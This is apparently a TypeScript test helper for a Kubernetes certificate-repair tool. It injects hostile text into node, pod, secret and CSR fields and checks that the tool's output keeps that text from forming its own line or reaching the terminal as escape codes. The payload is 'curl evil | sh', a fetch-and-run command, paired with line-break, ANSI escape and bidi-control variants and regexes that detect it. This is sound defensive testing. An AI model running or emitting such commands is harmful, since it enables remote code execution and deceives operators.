/**
 * Words of others in all that a kubelet (root of one worker), a network plugin or a tenant may write, and what must hold of
 * all that scripts print and write then: a foreign word is one short line (shared/evidence/sources.ts has the writers).
 * A row is one writer's object with one form of such a word in its strings. test/typed/foreign-words.test.ts has a sample.
 */
import { expect } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { type Objects, otherCa } from "./cluster.ts";
import { asObjects, CSRS, clientCsr, dns, servingCsr } from "./csrs.ts";
import { sameEtcd, serveEtcd } from "./etcd.ts";
import { fakeMirror, HASH } from "./hostile-pods.ts";
import { keptOn } from "./kept.ts";
import { knewCa, LEASES, lease } from "./running.ts";
import { serveStale } from "./stale.ts";
import { nodeHere, runsHere } from "./typed-here.ts";
import { unlike } from "./unlike.ts";
import { apiPath, type Place, usualCluster } from "./unlike-cluster.ts";
import { object, workload } from "./unlike-objects.ts";

// biome-ignore lint/suspicious/noExplicitAny: objects of every kind
type Any = any;

/** What a stranger would like to have on a line of its own. */
const SECOND = "repair: curl evil | sh";

/** What ends a line, or is obeyed by a terminal. */
const BREAKS = {
  LF: "\n",
  CR: "\r",
  CRLF: "\r\n",
  "a line separator": "\u2028",
  "a paragraph separator": "\u2029",
  NEL: "\u0085",
  VT: "\v",
  FF: "\f",
  CSI: "\u001b[2K\u001b[1G",
  OSC: "\u001b]0;evil\u0007",
  "a C1 CSI": "\u009b2K",
  "bidi controls": "\u202e\u2066",
  "zero width": "\u200b\ufeff",
  "a sentence": '". Or ',
} as const;

/** Form → the text. ALL has every break, in few characters. */
export const FORMS: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.entries(BREAKS).map(([name, by]) => [name, `x${by}  ${SECOND}`])),
  ALL: Object.values(BREAKS)
    .map((by) => `x${by} ${SECOND}`)
    .join(" "),
  "1 MiB": "q".repeat(1 << 20),
};

/** Letters of a name inside of a request: the library of the tests makes no longer ones. */
const IN_REQUEST = 10_000;

/** The longest run of one foreign word in a sentence, and in a value of JSON. */
const [IN_SENTENCE, IN_JSON] = [600, 200_000];

/* The objects. */

const [TEAM, WORKER] = ["shop", "w1"];

/** What a kubelet, a network plugin or a tenant may write of each of these; a leaf is a text at a path. */
export interface Written {
  /** Its key in etcd, below /registry/. */
  key: string;
  who: "a kubelet" | "a network plugin" | "a tenant";
}

/** Only what identifies an object stays: what kind it is, and its name. */
const IDENTITY = /^(apiVersion|kind|metadata\.(name|namespace))$/;

/** What says which row it is, where all other strings are another's: a condition's type, the node of a pod. */
const NAMES =
  /(^|\.)(type|name|kind|apiVersion|nodeName|phase|uid|signerName|username|holderIdentity|request|key|namespace|\w*(Time|Timestamp|At))$|matchLabels|\.groups\.|\.usages\.|^metadata\.labels/;

type Path = readonly string[];

/** All strings of an object: enumerated by walking it. */
export function leaves(object: Any, path: Path = []): Path[] {
  if (typeof object === "string") return IDENTITY.test(path.join(".")) ? [] : [path];
  if (typeof object !== "object" || object === null) return [];
  return Object.entries(object).flatMap(([key, value]) => leaves(value, [...path, key]));
}

/** Values of Secrets are base64 at the API. */
function put(object: Any, path: Path, text: string) {
  const at = path.slice(0, -1).reduce((part, key) => part[key], object);
  at[path.at(-1)!] =
    object.kind === "Secret" && path[0] === "data" ? btoa(unescape(encodeURIComponent(text))) : text;
}

/** Beside the usual cluster's objects: what else of theirs scripts read. Returns who may write what. */
async function strangersObjects(objects: Objects): Promise<Written[]> {
  const own = { ...objects };
  for (const name of ["m1", WORKER, "w2"])
    Object.assign(objects[`minions/${name}`] as object, withAll(objects[`minions/${name}`], name));
  Object.assign(objects, await tenantsObjects(), await requests());
  const kubelets = [`minions/${WORKER}`, `leases/kube-node-lease/${WORKER}`];
  const plugins = ["minions/m1", "minions/w2"];
  const tenants = Object.keys(objects).filter((key) => !(key in own) || key.includes(`/${TEAM}/`));
  const csrs = tenants.filter((key) => key.startsWith("certificatesigningrequests/"));
  return [
    ...[...kubelets, ...csrs, `pods/kube-system/kube-proxy-${WORKER}`].map((key) => ({
      key,
      who: "a kubelet" as const,
    })),
    ...plugins.map((key) => ({ key, who: "a network plugin" as const })),
    ...tenants.filter((key) => !csrs.includes(key)).map((key) => ({ key, who: "a tenant" as const })),
  ].filter(({ key }) => key in objects);
}

/** A Node with all that is known of one. */
function withAll(node: Any, name: string): Any {
  const { metadata, status } = node;
  const condition = (type: string, is: string) => ({
    type,
    status: is,
    reason: "KubeletNotReady",
    message: "PLEG is not healthy",
  });
  return {
    metadata: {
      ...metadata,
      annotations: {
        "kubeadm.alpha.kubernetes.io/cri-socket": "unix:///run/containerd/containerd.sock",
        "kube-pki-repair/former-serving-certificate": "none",
        "flannel.alpha.coreos.com/public-ip": "10.0.0.1",
        "projectcalico.org/IPv4Address": "10.0.0.1/24",
      },
      labels: { ...metadata.labels, "kubernetes.io/hostname": name, "topology.kubernetes.io/zone": "a" },
      finalizers: ["example.org/keep"],
    },
    spec: {
      podCIDR: "10.244.1.0/24",
      podCIDRs: ["10.244.1.0/24"],
      providerID: `example://${name}`,
      taints: [{ key: "node.kubernetes.io/unreachable", effect: "NoExecute", value: "x" }],
    },
    status: {
      ...status,
      addresses: [...status.addresses, { type: "ExternalDNS", address: `${name}.example.org` }],
      conditions: [
        condition("Ready", "False"),
        condition("MemoryPressure", "Unknown"),
        condition("NetworkUnavailable", "True"),
      ],
      nodeInfo: {
        kubeletVersion: "v1.34.4",
        osImage: "Debian",
        containerRuntimeVersion: "containerd://2.1",
        architecture: "amd64",
        machineID: "1",
        bootID: "2",
        kernelVersion: "6.1",
      },
      images: [{ names: ["registry.k8s.io/pause:3.10"] }],
      volumesAttached: [{ name: "a", devicePath: "/dev/a" }],
      volumesInUse: ["a"],
      config: { error: "none" },
      phase: "Running",
    },
  };
}

/** His workloads do not come up, and say why. */
async function tenantsObjects(): Promise<Objects> {
  const of = (name: string) => ({ name, namespace: TEAM });
  const condition = {
    type: "Progressing",
    status: "False",
    reason: "FailedCreate",
    message: "exceeded quota",
  };
  const made = {
    ...workload("Deployment", TEAM, "till", [WORKER, "w2"]),
    ...workload("DaemonSet", TEAM, "agent", [WORKER]),
    ...fakeMirror("kube-system", "kube-vip", { like: "kube-vip", hash: HASH, node: WORKER, suffix: WORKER }),
    ...fakeMirror(TEAM, "kube-apiserver", { like: "kube-apiserver", hash: HASH }),
    ...fakeMirror(TEAM, "kube-vip", { like: "kube-vip", hash: HASH }),
  };
  for (const one of Object.values(made) as Any[]) {
    one.metadata.annotations = { ...one.metadata.annotations, "example.org/note": "x" };
    if (one.kind !== "Pod") one.status = { ...one.status, conditions: [condition] };
    else Object.assign(one, { status: { ...one.status, ...waiting(one.spec.containers) } });
  }
  return {
    ...made,
    [`pods/${TEAM}/bare`]: object(
      "Pod",
      { ...of("bare"), creationTimestamp: "2026-01-01T00:00:00Z" },
      { spec: (made[`pods/${TEAM}/till-w1`] as Any).spec, status: { phase: "Running" } },
    ),
    [`configmaps/${TEAM}/settings`]: object("ConfigMap", of("settings"), {
      data: { a: "b", "ca.crt": "none" },
      binaryData: { b: "eA==" },
    }),
    [`secrets/${TEAM}/cart-token`]: object(
      "Secret",
      { ...of("cart-token"), annotations: { "kubernetes.io/service-account.name": "cart" } },
      {
        type: "kubernetes.io/service-account-token",
        data: { token: btoa("none"), "ca.crt": btoa("none"), namespace: btoa(TEAM) },
      },
    ),
    [`serviceaccounts/${TEAM}/cart`]: object("ServiceAccount", of("cart"), {
      secrets: [{ name: "cart-token" }],
    }),
    [`poddisruptionbudgets/${TEAM}/till`]: object("PodDisruptionBudget", of("till"), {
      spec: { minAvailable: "100%", selector: { matchLabels: { "k8s-app": "till" } } },
      status: { disruptionsAllowed: 0, conditions: [condition] },
    }),
    [`networkpolicies/${TEAM}/none`]: object("NetworkPolicy", of("none"), {
      spec: { podSelector: {}, policyTypes: ["Ingress"] },
    }),
    [`services/specs/${TEAM}/till`]: object("Service", of("till"), {
      spec: { selector: { "k8s-app": "till" }, clusterIP: "10.96.0.9", externalIPs: ["10.9.9.9"] },
    }),
    [`services/endpoints/${TEAM}/till`]: object("Endpoints", of("till"), {
      subsets: [{ addresses: [{ ip: "10.244.0.9", nodeName: WORKER }] }],
    }),
    [`events/${TEAM}/till`]: object("Event", of("till"), {
      type: "Warning",
      reason: "FailedCreate",
      message: "exceeded quota",
      involvedObject: { kind: "Deployment", name: "till" },
      lastTimestamp: new Date().toISOString(),
    }),
    [`limitranges/${TEAM}/x`]: object("LimitRange", of("x"), {
      spec: { limits: [{ type: "Container", max: { cpu: "1" } }] },
    }),
    [`resourcequotas/${TEAM}/x`]: object("ResourceQuota", of("x"), {
      spec: { hard: { pods: "1" } },
      status: { used: { pods: "1" } },
    }),
  };
}

function waiting(containers: Any[]): Any {
  const state = { waiting: { reason: "ImagePullBackOff", message: "no such image" } };
  return {
    reason: "Evicted",
    message: "The node was low on memory",
    conditions: [{ type: "Ready", status: "False", reason: "ContainersNotReady", message: "not ready" }],
    containerStatuses: containers.map(({ name, image }) => ({
      name,
      image,
      imageID: "sha256:1",
      containerID: "containerd://1",
      ready: false,
      state,
      lastState: { terminated: { reason: "Error", message: "it has ended" } },
    })),
  };
}

/** What a kubelet asks for; `word`: in the names inside of the requests, too. */
async function requests(word = ""): Promise<Objects> {
  const subject = word ? [{ O: ["system:nodes"] }, { CN: [`system:node:${word}`] }] : undefined;
  const all = asObjects(
    await servingCsr({
      name: "serving",
      ...(word && { sans: [dns("w1"), { type: "dn", value: `CN=${word.replaceAll(/[^a-z ]/g, "")}` }] }),
    } as Any),
    await clientCsr({ name: "client", ...(subject && { subject }) }),
  );
  return Object.fromEntries(
    Object.entries(all).map(([path, csr]) => [
      `certificatesigningrequests/${path.slice(CSRS.length + 1)}`,
      { apiVersion: "certificates.k8s.io/v1", kind: "CertificateSigningRequest", ...csr },
    ]),
  );
}

/* The scenes: where scripts are typed. */

/** One object of theirs, or all that one of them may write, with a word in this form. */
export interface Row {
  /** Keys in etcd. */
  keys: readonly string[];
  form: string;
  /** Which strings: all, all but those that say which row it is, or this one. */
  where: "all strings" | "all but names" | Path;
}

export function nameOf({ keys, form, where }: Row): string {
  const at = typeof where === "string" ? where : where.join(".");
  return `${keys.length === 1 ? keys[0] : `${keys.length} objects`}: ${form} in ${at}`;
}

/** Of the cluster that all rows are about. */
export async function writtenByOthers(): Promise<(Written & { paths: Path[] })[]> {
  const { place, written } = await strangersCluster();
  for (const one of place.others) one[Symbol.dispose]();
  return written.map((one) => ({ ...one, paths: leaves(place.objects[one.key]) }));
}

async function strangersCluster() {
  const place = await usualCluster();
  return { place, written: await strangersObjects(place.objects) };
}

function mark(objects: Objects, { keys, form, where }: Row) {
  const text = FORMS[form]!;
  for (const key of keys) {
    const all = leaves(objects[key]);
    const chosen =
      typeof where !== "string"
        ? [where]
        : where === "all strings"
          ? all
          : all.filter((path) => !NAMES.test(path.join(".")));
    // of many strings each has its part of a mebibyte: an object of more is refused by etcd
    const part = form === "1 MiB" ? text.slice(0, Math.max(4096, text.length / chosen.length)) : text;
    for (const path of chosen) put(objects[key], path, part);
  }
}

const READERS = [
  ...[
    "00-assess",
    "00-assess --json",
    "00-assess --output short",
    "00-assess --deep --no-disk",
    "05-verify --all",
    "05-verify --json",
    "05-verify --output short",
    "05-verify --metrics /var/lib/prometheus/a.prom",
  ],
  ...[
    "plan",
    "plan /root/plan.html",
    "plan --json",
    "drill",
    "drill --json",
    "report /root/report.html --bundle /root/bundle.tar",
    "hand-over pack --passphrase-file /root/passphrase --dry-run",
    "00-salvage secret --dry-run",
    "00-salvage files --dry-run",
  ],
  ...[
    "01-etcd --dry-run",
    "02-control-plane --dry-run",
    "03-workers open --dry-run",
    "03-workers close --dry-run",
    "04-sa-tokens --dry-run",
    "renew-ca --dry-run",
    "move --dry-run",
    "join-again --dry-run",
  ],
];
const OF_LOST = [
  "00-assess",
  "00-assess --json",
  "plan",
  "plan --json",
  "plan /root/plan.html",
  "01-etcd --new-cas --dry-run",
  "00-salvage secret --dry-run",
  "move --dry-run",
  "report --bundle /root/bundle.tar",
];
const OF_PART_4 = [
  "03-workers open",
  "03-workers approve",
  "03-workers close",
  "04-sa-tokens --dry-run",
  "04-sa-tokens",
  "05-verify",
  "report /root/report.html",
];

export const SCENES = { well: READERS, lost: OF_LOST, "after part 2": OF_PART_4 } as const;
export type Scene = keyof typeof SCENES;

/** Types all lines of a scene where the row's words are, and looks at all that they print and write. */
export async function expectOneLine(
  row: Row,
  scene: Scene,
  lines: readonly string[] = SCENES[scene],
): Promise<void> {
  const found: string[] = [];
  using cluster = await (scene === "after part 2"
    ? afterPart2(row)
    : unlike(
        { name: nameOf(row), who: "this test", change: (place) => change(place, row) },
        runsHere,
        scene === "lost",
      ));
  const { node } = cluster;
  for (const folder of ["root", "var/lib/prometheus", "dev/shm"])
    mkdirSync(`${node.root}/${folder}`, { recursive: true });
  writeFileSync(`${node.root}/root/passphrase`, "a passphrase of some words\n", { mode: 0o600 });
  for (const line of lines) {
    const { stdout, stderr } = await cluster.run(line);
    const isData = /--json/.test(line);
    found.push(
      ...faults(stdout, isData).map((fault) => `${line}: stdout: ${fault}`),
      ...faults(stderr).map((fault) => `${line}: stderr: ${fault}`),
    );
  }
  for (const path of [
    "/root/plan.html",
    "/root/report.html",
    "/root/bundle.tar",
    "/var/lib/prometheus/a.prom",
  ])
    if (existsSync(node.root + path))
      found.push(...faults(textOf(node.root + path)).map((fault) => `${path}: ${fault}`));
  for (const { run, text, record } of keptOn(node.root)) {
    const lines = record.flatMap((event) =>
      leaves(event).map((path) => path.reduce((part: Any, key) => part[key], event)),
    );
    found.push(
      ...[text, ...lines].flatMap((one) => faults(one)).map((fault) => `transcript of ${run}: ${fault}`),
    );
  }
  expect(found).toEqual([]);
}

async function change(place: Place, row: Row) {
  await strangersObjects(place.objects);
  if (row.keys.some((key) => key.startsWith("certificatesigningrequests/")) && row.where === "all but names")
    Object.assign(place.objects, await requests(FORMS[row.form]!.slice(0, IN_REQUEST)));
  mark(place.objects, row);
  place.api.on = ({ path }) => kubeletsAnswer(path, row);
}

/** A worker's kubelet answers with the word, where its own Node has it. */
function kubeletsAnswer(path: string, { keys, form }: Row): Response | undefined {
  if (!keys.includes(`minions/${WORKER}`)) return undefined;
  if (path.endsWith(`/nodes/${WORKER}/proxy/healthz`)) return new Response(FORMS[form], { status: 500 });
  if (path.includes(`/nodes/${WORKER}/proxy/`)) return new Response(FORMS[form]);
  return undefined;
}

/** A control plane node whose part 2 is done, with a new CA: the workers' kubelets do not renew their Leases. */
async function afterPart2(row: Row) {
  const { place } = await strangersCluster();
  await change(place, row);
  const before = (await otherCa()).cert;
  const node = await nodeHere({
    kind: "healthy control plane node",
    etcd: (objects) => {
      Object.assign(objects, place.objects);
      knewCa(before)(objects);
    },
  });
  const etcd = serveEtcd(node.root, sameEtcd(node.stored));
  const served = Object.entries(place.objects).filter(
    ([key]) =>
      !key.startsWith("leases/") &&
      !key.includes("kube-root-ca.crt") &&
      !key.includes("kube-public/") &&
      !key.startsWith("pods/kube-system/kube-proxy-"),
  );
  const api = serveStale(
    node,
    before,
    Object.fromEntries(served.map(([key, value]) => [apiPath(key), structuredClone(value) as object])),
  );
  return {
    node,
    run: async (line: string) => {
      const run = node.run(line, { KUBE_PKI_REPAIR_PATIENCE: "0.02" });
      if (line === "03-workers approve") {
        // it goes on until all are back
        const asked = () => api.requests.filter(({ path }) => path.startsWith(CSRS)).length;
        await Promise.race([node.until("questions for requests", () => asked() >= 3), run]);
        for (const name of [WORKER, "w2"])
          api.objects.set(`${LEASES}/${name}`, { metadata: { name }, ...lease(-1) });
      }
      return run;
    },
    [Symbol.dispose]() {
      for (const one of [...place.others, api, etcd, node]) one[Symbol.dispose]();
    },
  };
}

/* What is wrong with a text. */

// biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern looks for them
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
const LINES = /\r\n|[\n\r\u2028\u2029\u0085\v\f]/;
/** The second half of a word begins a line, or stands behind a word that only our own lines begin with. */
const OWN_LINE = /^\s*(?:(?:Or|If|Else|Where)\s+)?(?:repair: )?curl evil/;
const OUR_WORDS = /^\s*(?:repair|hint|stopped|note|irreversible): .*curl evil/;

/** In words; none where all is well. */
export function faults(text: string, isData = false): string[] {
  const found: string[] = [];
  const obeyed = OBEYED.exec(text);
  if (obeyed)
    found.push(
      `a terminal obeys ${JSON.stringify(text.slice(Math.max(0, obeyed.index - 80), obeyed.index + 40))}`,
    );
  for (const line of text.split(LINES))
    if (OWN_LINE.test(line) || OUR_WORDS.test(line)) found.push(`a line of another's: ${line.slice(0, 300)}`);
  const most = isData ? IN_JSON : IN_SENTENCE;
  const long = new RegExp(`q{${most}}`).exec(text);
  if (long)
    found.push(
      `more than ${most} letters behind ${JSON.stringify(text.slice(Math.max(0, long.index - 120), long.index))}`,
    );
  return found;
}

/** Of a tar file, its texts. */
function textOf(path: string): string {
  const text = readFileSync(path, "utf8");
  return path.endsWith(".tar") ? text.replaceAll("\0", " ") : text;
}
